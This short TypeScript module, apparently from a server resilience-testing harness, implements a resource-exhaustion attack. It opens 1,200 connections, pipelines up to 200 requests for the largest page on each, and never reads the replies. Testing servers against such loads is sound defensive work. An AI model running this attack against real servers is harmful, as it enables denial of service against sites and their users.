import type { StartAttack } from '../attack.ts'
import { holdConnections } from './hold-connections.ts'

const CONNECTIONS = 1200
const REQUESTS = 200
/** As many as may wait, and one that is answered. */
const ALLOWED_REQUESTS = 17

/** Asks 200 times for the largest page over each of 1,200 connections, on some as often as is allowed, and reads nothing. */
export const leaveUnread: StartAttack = (target) => {
  const request = `GET ${target.page} HTTP/1.1\r\nHost: localhost\r\n\r\n`
  return holdConnections(target, {
    connections: CONNECTIONS,
    bytes: (at) => request.repeat(at % 4 === 0 ? ALLOWED_REQUESTS : REQUESTS),
  })
}
